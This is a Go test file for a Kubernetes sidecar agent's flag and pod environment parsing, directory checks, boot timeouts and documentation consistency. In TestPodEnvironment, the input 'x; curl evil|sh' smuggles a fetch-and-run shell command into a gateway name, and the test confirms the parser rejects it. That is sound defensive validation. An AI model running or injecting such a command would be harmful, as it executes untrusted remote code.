package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"stoker.io/stoker/api/v1alpha1"
	"stoker.io/stoker/internal/daemon"
	"stoker.io/stoker/internal/metrics"
	"stoker.io/stoker/test/program"
	"stoker.io/stoker/test/reference"
)

func TestCommandLineErrors(t *testing.T) {
	var out bytes.Buffer
	_, err := parse([]string{"--secret", "token=x", "--max-files", "0", "--log-level", "loud", "--gateway-url", "ftp://x:S3CR3T@h", "extra"}, nil, &out)
	require.ErrorIs(t, err, daemon.ErrUsage)
	for _, want := range []string{"--file is required", "--data-dir is required", "--gateway-name is required", "NAME/KEY=FILE", "--max-files", "loud", "--gateway-url: the gateway's URL", `"extra"`} {
		assert.Contains(t, out.String(), want)
	}
	assert.NotContains(t, out.String(), "S3CR3T")
}

func TestHelp(t *testing.T) {
	var out bytes.Buffer
	assert.Equal(t, daemon.ExitDone, run(t.Context(), []string{"--help"}, nil, io.Discard, &out))
	assert.Contains(t, out.String(), "--data-dir")
	_, err := parse([]string{"-h"}, nil, io.Discard)
	assert.ErrorIs(t, err, flag.ErrHelp)
	assert.Equal(t, daemon.ExitUsage, run(t.Context(), []string{"--nonsense"}, nil, io.Discard, &out))
}

func TestObjectCachePerDataDirectory(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", "/cache")
	a, b := settings{DataDir: "/data/a"}, settings{DataDir: "/data/b"}
	dirA, err := a.repoDir()
	require.NoError(t, err)
	dirB, err := b.repoDir()
	require.NoError(t, err)
	assert.NotEqual(t, dirA, dirB)
	given := settings{RepoDir: "/elsewhere"}
	dir, err := given.repoDir()
	require.NoError(t, err)
	assert.Equal(t, "/elsewhere", dir)
}

// The cache of git objects and the data directory must not contain each other, and the data directory is not the root.
func TestDirectoriesApart(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.Mkdir(filepath.Join(dir, "data"), 0o755))
	require.NoError(t, os.Symlink(filepath.Join(dir, "data"), filepath.Join(dir, "link")))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	for _, c := range []struct{ data, objects, want string }{
		{"data", "objects", ""},
		{"data", "", ""},         // the default cache, which is in another directory
		{"data", "database", ""}, // a common prefix of the names does not count
		{"data", "data/objects", "must not contain each other"},
		{"data", "link/objects", "must not contain each other"},
		{"data/deep", ".", "must not contain each other"},
		{".", "", "must not contain each other"}, // the default cache is in ./cache here
		{"data", "data", "must not contain each other"},
		{"/", "objects", "is the root of the file system"},
	} {
		t.Run(c.data+" "+c.objects, func(t *testing.T) {
			s := settings{DataDir: c.data, RepoDir: c.objects}
			if s.DataDir != "/" {
				s.DataDir = filepath.Join(dir, s.DataDir)
			}
			if s.RepoDir != "" {
				s.RepoDir = filepath.Join(dir, s.RepoDir)
			}
			err := s.checkDirs()
			if c.want == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorContains(t, err, c.want)
		})
	}
}

func TestPodEnvironment(t *testing.T) {
	var out bytes.Buffer
	_, err := parse(nil, []string{"POD_NAME=line-0", "CR_NAME=Site", "GATEWAY_NAME=x; curl evil|sh", "GATEWAY_PORT=0", "GATEWAY_TLS=maybe", "SYNC_PERIOD=1", "SECRETS=git/token,../x", "GATEWAY_MOUNTS=config"}, &out)
	require.ErrorIs(t, err, daemon.ErrUsage)
	for _, want := range []string{"POD_NAMESPACE is required", "POD_UID is required", `GATEWAY_NAME: "x; curl evil|sh" is not the name of a gateway`, "DATA_PATH is required", `CR_NAME: "Site"`, "GATEWAY_PORT", "GATEWAY_TLS", "SYNC_PERIOD", "SECRETS", `GATEWAY_MOUNTS: "config" is not a list`} {
		assert.Contains(t, out.String(), want)
	}
	assert.NotContains(t, out.String(), "--file", "a pod needs no --file")

	env := []string{"POD_NAME=line-0", "POD_NAMESPACE=plant", "POD_UID=u", "CR_NAME=site", "GATEWAY_NAME=line", "DATA_PATH=/data", "GATEWAY_PORT=8043",
		"GATEWAY_TLS=true", "SYNC_PERIOD=60", "PROFILE=", "SECRETS=git/token,gateway.api/API_key-1.x,configmap_authors/keys", `GATEWAY_MOUNTS=["config/a, b","modules"]`}
	s, err := parse([]string{"--log-level", "debug"}, env, &out)
	require.NoError(t, err)
	assert.True(t, s.Sidecar)
	assert.Equal(t, "/data", s.DataDir)
	assert.Equal(t, ":8082", s.HealthAddr)
	assert.Equal(t, ":8083", s.MetricsAddr)
	assert.Equal(t, "/repo/objects", s.RepoDir)
	assert.EqualValues(t, 8043, s.Env.Port)
	engine, closeEngine := newEngine(s, nil, newScreen(&out, &out, s, terminal))
	closeEngine()
	assert.Equal(t, []string{"config/a, b", "modules"}, engine.Mounts)
	assert.Equal(t, map[string]bool{"git/token": true, "gateway.api/API_key-1.x": true, "configmap_authors/keys": true}, s.Env.Secrets)

	s, err = parse([]string{"--health-addr", "127.0.0.1:1"}, env, &out)
	require.NoError(t, err)
	assert.Equal(t, "127.0.0.1:1", s.HealthAddr)
	out.Reset()
	_, err = parse([]string{"--data-dir", "/x", "--once"}, env, &out)
	require.ErrorIs(t, err, daemon.ErrUsage)
	assert.Contains(t, out.String(), "--data-dir: in a pod")
	assert.Contains(t, out.String(), "--once: in a pod")

	s, err = parse([]string{"--file", "f", "--data-dir", "d", "--gateway-name", "n"}, env, &out)
	require.NoError(t, err)
	assert.False(t, s.Sidecar, "--file takes precedence over the environment")
}

func TestBootTimeout(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		ctx, cancel := context.WithTimeoutCause(t.Context(), time.Minute, errors.New("boot takes too long"))
		defer cancel()
		require.NoError(t, bootStep(ctx, "one", func() error { return nil }))
		require.EqualError(t, bootStep(ctx, "fails", func() error { return errors.New("no") }), "fails: no")
		release := make(chan struct{})
		err := bootStep(ctx, "open the cache", func() error { <-release; return nil })
		require.EqualError(t, err, "open the cache: boot takes too long")
		close(release)
		synctest.Wait()
	})
}

// maxBinary is a ceiling, not a goal: the node of every gateway pulls and keeps the agent. Raise it only for a dependency that
// is worth it. Most of the size is client-go, whose scheme has the types of all of Kubernetes; see kube.Core.
// S3 is 2 MiB; GCS, Azure and registries, without SDKs, are 0.1 MiB each.
const maxBinary = 53 << 20

func TestBinarySize(t *testing.T) { program.Small(t, "agent", maxBinary) }

func document(t *testing.T, name string) string {
	t.Helper()
	return reference.Page(t, "../docs/"+name)
}

func TestFlagReference(t *testing.T) {
	var s settings
	reference.Flags(t, "../docs/reference/agent.md", s.flags(io.Discard))
}

func TestEnvironmentReference(t *testing.T) {
	rows := reference.Rows(document(t, "reference/agent.md"), 3)
	comment, err := os.ReadFile("main.go")
	require.NoError(t, err)
	var e environment
	var names []string
	for _, v := range e.variables() {
		names = append(names, v.name)
		row, ok := rows[v.name]
		if assert.True(t, ok, "docs/reference/agent.md must list %s", v.name) {
			assert.Equal(t, v.required, row[0] == "required", v.name)
		}
		assert.Contains(t, string(comment), v.name, "the package comment must list the variable")
	}
	variable := regexp.MustCompile(`^[A-Z][A-Z_]+$`)
	for name := range rows {
		if variable.MatchString(name) {
			assert.Contains(t, names, name, "docs/reference/agent.md must list only variables that exist")
		}
	}
}

func TestMetricReference(t *testing.T) {
	reg := prometheus.NewRegistry()
	metrics.NewAgent(reg, "v", "n", "s", "g")
	metrics.NewFleet(reg, "n", "s")
	reference.Metrics(t, "../docs/reference/agent.md", reg)
}

func TestTroubleshooting(t *testing.T) {
	var class string
	sections := map[string]string{}
	classes := map[string]bool{}
	for _, r := range v1alpha1.Reasons {
		classes[string(r.Class)] = true
	}
	for line := range strings.Lines(document(t, "how-to/troubleshooting.md")) {
		if c, ok := strings.CutPrefix(line, "## "); ok {
			class = strings.TrimSpace(c)
		}
		if r, ok := strings.CutPrefix(line, "### "); ok && classes[class] {
			sections[strings.TrimSpace(r)] = class
		}
	}
	for _, r := range v1alpha1.Reasons {
		assert.Equal(t, string(r.Class), sections[string(r.Reason)], "docs/how-to/troubleshooting.md: ### %s", r.Reason)
		delete(sections, string(r.Reason))
	}
	assert.Empty(t, sections, "docs/how-to/troubleshooting.md has sections for reasons that do not exist")
}

func TestExitCodeReference(t *testing.T) {
	page := document(t, "reference/agent.md")
	for _, code := range []int{daemon.ExitDone, daemon.ExitFailed, daemon.ExitUsage, exitTimeout, exitHeld} {
		assert.True(t, slices.ContainsFunc(strings.Split(page, "\n"), func(l string) bool {
			return strings.HasPrefix(l, "| "+string(rune('0'+code))+" |")
		}), "exit code %d", code)
	}
}
